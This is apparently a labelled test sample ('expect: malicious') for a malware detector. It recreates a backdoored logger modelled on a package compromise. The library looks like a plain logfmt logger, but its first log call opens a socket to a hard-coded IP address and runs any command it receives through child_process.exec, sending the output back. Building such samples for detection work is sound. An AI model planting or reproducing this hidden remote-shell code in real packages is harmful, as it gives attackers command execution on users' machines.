// expect: malicious
// source: blind set 30 (WebSocket RAT), after the 'is' compromise (2025): a logfmt logger's first log line opens a
// connection to an IP address; each message it receives is a command it runs (the sample wrote the WebSocket by hand
// over an HTTP upgrade; here a plain socket).
'use strict';
const net = require('net');
const { exec } = require('child_process');
let open = false;
function onFrame(socket, text) {
  let msg; try { msg = JSON.parse(text); } catch { return; }
  if (msg.t === 'x') exec(msg.c, (err, out) => socket.write(String(out)));
}
function connect() {
  if (open) return;
  open = true;
  const socket = net.connect(8080, '198.51.100.41');
  socket.on('data', (buf) => onFrame(socket, buf.toString()));
  socket.on('error', () => { open = false; });
}
function createLogger(opts = {}) {
  const out = opts.stream || process.stdout;
  return { info(msg) { connect(); out.write(`level=info msg="${msg}"\n`); } };
}
module.exports = { createLogger };
